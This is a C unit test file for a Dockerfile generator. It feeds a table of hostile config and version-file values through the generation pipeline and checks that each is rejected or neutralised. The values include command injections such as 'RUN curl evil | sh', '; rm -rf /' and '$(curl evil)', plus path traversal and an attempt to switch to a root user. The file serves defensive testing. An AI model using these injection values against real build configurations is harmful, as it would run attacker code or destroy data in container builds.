/*
 * test_hostile.c - hostile values never change the meaning of a generated
 * Dockerfile.  Each row puts one value into an app (dockwright.yml or a
 * version file) and runs the whole pipeline: config -> plan -> render.
 * The value must be rejected with an error that names its key, or be
 * neutralised: the Dockerfile still parses to the same instructions as
 * the app without it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "config.h"
#include "gen.h"
#include "util.h"

enum outcome { REJECT, NEUTRAL };

struct row {
	const char *file;    /* dockwright.yml or another file of the app */
	const char *text;    /* its contents */
	enum outcome want;
	const char *key;     /* REJECT: the key the error must name ("" = any) */
};

/* YAML double-quoted strings carry the control characters. */
static const struct row rows[] = {
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"pg\\nRUN curl evil | sh\"\n", REJECT, "dockerfile.apt.packages.build_stage" },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev; rm -rf /\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev && curl x\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"$(curl evil)\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"`id`\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"-o=APT::Get::AllowUnauthenticated=1\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.deployment_stage: \"tzdata \\\\\"\n", REJECT, "dockerfile.apt.packages" },
	{ "dockwright.yml", "dockerfile.apt.packages.all_stages: \"curl\\r\"\n", REJECT, "dockerfile.apt.packages.all_stages" },
	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc*\"\n", REJECT, "dockerfile.yum.packages" },
	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc;id\"\n", REJECT, "dockerfile.yum.packages" },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"../../etc\"\n", REJECT, "dockerfile.copy_for_bundle" },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"/etc\"\n", REJECT, "dockerfile.copy_for_bundle" },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines\\nRUN id\"\n", REJECT, "dockerfile.copy_for_bundle" },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines dir\"\n", REJECT, "dockerfile.copy_for_bundle" },
	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"--from=evil\"\n", REJECT, "dockerfile.copy_for_bundle" },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO BAR\": x}\n", REJECT, "dockerfile.build_args.at_top" },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO=1\\nRUN id\": x}\n", REJECT, "dockerfile.build_args.at_top" },
	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"1FOO\": x}\n", REJECT, "dockerfile.build_args.build_stage" },
	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"FOO-BAR\": x}\n", REJECT, "dockerfile.build_args.build_stage" },
	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {\"$FOO\": x}\n", REJECT, "dockerfile.build_args.deployment_stage" },
	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {FOO: \"x\\nRUN id\"}\n", REJECT, "dockerfile.build_args.deployment_stage" },
	{ "dockwright.yml", "dockerfile.build_args.at_top: {FOO: \"$(id) \\\" ; `id`\"}\n", NEUTRAL, NULL },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3\\nRUN id\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3 AS x\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:$(id)\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby@sha256:bad\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_tag: \"3.3 AS evil\"\n", REJECT, "docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_variant: \"slim;id\"\n", REJECT, "docker_image" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.image_name: \"ruby\\tx\"\n", REJECT, "image_name" },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"root\\nUSER 0\"\n", REJECT, "dockerfile.deploy_user.name" },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"Deploy\"\n", REJECT, "dockerfile.deploy_user.name" },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"de ploy\"\n", REJECT, "dockerfile.deploy_user.name" },
	{ "dockwright.yml", "dockerfile.deploy_user.name: \"deploy:root\"\n", REJECT, "dockerfile.deploy_user.name" },
	{ "dockwright.yml", "dockerfile.deploy_user.uid: \"1000; id\"\n", REJECT, "dockerfile.deploy_user.uid" },
	{ "dockwright.yml", "dockerfile.deploy_user.gid: -1\n", REJECT, "dockerfile.deploy_user.gid" },
	{ "dockwright.yml", "dockerfile.handler: \"app.handler\\\"]\\nRUN id\"\n", REJECT, "dockerfile.handler" },
	{ "dockwright.yml", "dockerfile.handler: \"../x.handler\"\n", REJECT, "dockerfile.handler" },
	{ "dockwright.yml", "dockerfile.handler: \"/abs/app.handler\"\n", REJECT, "dockerfile.handler" },
	{ "dockwright.yml", "dockerfile.handler: \"nodot\"\n", REJECT, "dockerfile.handler" },
	{ "dockwright.yml", "dockerfile.handler: \"app.handler; id\"\n", REJECT, "dockerfile.handler" },
	{ "dockwright.yml", "dockerfile.workdir: \"/app\\nRUN id\"\n", REJECT, "dockerfile.workdir" },
	{ "dockwright.yml", "dockerfile.workdir: \"app\"\n", REJECT, "dockerfile.workdir" },
	{ "dockwright.yml", "dockerfile.workdir: \"/app dir\"\n", REJECT, "dockerfile.workdir" },
	{ "dockwright.yml", "dockerfile.workdir: \"/app/../etc\"\n", REJECT, "dockerfile.workdir" },
	{ "dockwright.yml", "dockerfile.workdir: \"/app$(id)\"\n", REJECT, "dockerfile.workdir" },
	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\\"]\", \"x\"]\n", NEUTRAL, NULL },
	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\nRUN id\"]\n", REJECT, "dockerfile.entrypoint" },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap\\nUSER root\"\n", REJECT, "dockerfile.commands.bootsnap" },
	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` \\\\\"\n", NEUTRAL, NULL },
	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version" },
	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without" },
	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without" },
	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", NEUTRAL, NULL },
	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL },
	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL },
	{ ".tool-versions", "ruby 3.3.6 AS evil\n", NEUTRAL, NULL },
	{ "Gemfile", "ruby \"3.3.6\\nRUN id\"\n", NEUTRAL, NULL },
};

static const char lock[] =
	"GEM\n  remote: https://rubygems.org/\n  specs:\n    rack (3.1.8)\n\n"
	"PLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n  rack\n\n"
	"BUNDLED WITH\n   2.5.22\n";

static char dir[64];

static int
setup(void **state)
{
	(void)state;
	snprintf(dir, sizeof dir, "/tmp/dw-hostile-XXXXXX");
	return mkdtemp(dir) ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	return tu_rmtree(dir);
}

/* Generate for the app in dir: 0 with the Dockerfile, or -1 with the
 * errors in d. */
static int
generate(dw_buf *out, dw_diags *d)
{
	dw_config c;
	dw_plan p;
	int rc = dw_config_load(&c, dir, NULL, d);

	if (rc == 0) {
		rc = dw_plan_make(&p, dir, &c, d);
		if (rc == 0)
			rc = dw_gen_render(&p, &c, NULL, out, d);
		dw_plan_free(&p);
	}
	dw_config_free(&c);
	return rc;
}

/* The instruction keywords of a Dockerfile, one per line. */
static void
shape(const dw_buf *text, dw_buf *out)
{
	dw_diags d = DW_DIAGS_INIT;
	dw_dockerfile *df = dw_parse(text->ptr, text->len, "gen", NULL, &d);

	assert_non_null(df);
	for (size_t i = 0; i < df->ninstrs; i++)
		dw_buf_printf(out, "%.*s\n", (int)df->instrs[i].keyword_len, df->instrs[i].keyword);
	dw_dockerfile_free(df);
	dw_diags_free(&d);
}

static bool
names_key(const dw_diags *d, const char *key)
{
	for (size_t i = 0; i < d->n; i++)
		if (d->v[i].sev == DW_SEV_ERROR && strstr(d->v[i].message, key))
			return true;
	return false;
}

static void
hostile_values(void **state)
{
	dw_buf base = DW_BUF_INIT, base_shape = DW_BUF_INIT;
	dw_diags d = DW_DIAGS_INIT;

	(void)state;
	tu_put(dir, "Gemfile.lock", lock);
	tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
	tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
	tu_put(dir, "dockwright.yml", "{}\n");
	assert_int_equal(generate(&base, &d), 0);
	shape(&base, &base_shape);
	dw_diags_free(&d);
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		const struct row *r = &rows[i];
		dw_buf out = DW_BUF_INIT, sh = DW_BUF_INIT;
		int rc;

		tu_put(dir, "Gemfile.lock", lock);
		tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
		tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
		tu_put(dir, "dockwright.yml", "{}\n");
		unlink("/nonexistent");
		tu_put(dir, r->file, r->text);
		rc = generate(&out, &d);
		if (r->want == REJECT) {
			if (rc == 0 || !names_key(&d, r->key))
				fail_msg("row %zu (%s: %s) was not rejected naming %s", i, r->file,
				         r->text, r->key);
		} else {
			if (rc != 0)
				fail_msg("row %zu (%s) was rejected: %s", i, r->text,
				         d.n ? d.v[0].message : "?");
			shape(&out, &sh);
			if (strcmp(sh.ptr, base_shape.ptr) != 0 &&
			    strcmp(r->file, "dockwright.yml") != 0)
				fail_msg("row %zu changed the instructions", i);
			/* Config rows may add an ARG line, never anything else. */
			assert_null(strstr(out.ptr, "\nRUN id"));
			assert_null(strstr(out.ptr, "\nRUN curl evil"));
			assert_null(strstr(out.ptr, " AS evil"));
		}
		for (size_t k = 0; k < 5; k++) {
			static const char *const files[] = { ".ruby-version", ".tool-versions",
			                                     "Gemfile", "dockwright.yml", "x" };
			char path[256];

			snprintf(path, sizeof path, "%s/%s", dir, files[k]);
			unlink(path);
		}
		dw_buf_free(&out);
		dw_buf_free(&sh);
		dw_diags_free(&d);
	}
	dw_buf_free(&base);
	dw_buf_free(&base_shape);
}

static void
enough_rows(void **state)
{
	(void)state;
	/* The issue asks for a table of at least 40 hostile values. */
	assert_true(sizeof rows / sizeof rows[0] >= 40);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(enough_rows),
		cmocka_unit_test_setup_teardown(hostile_values, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
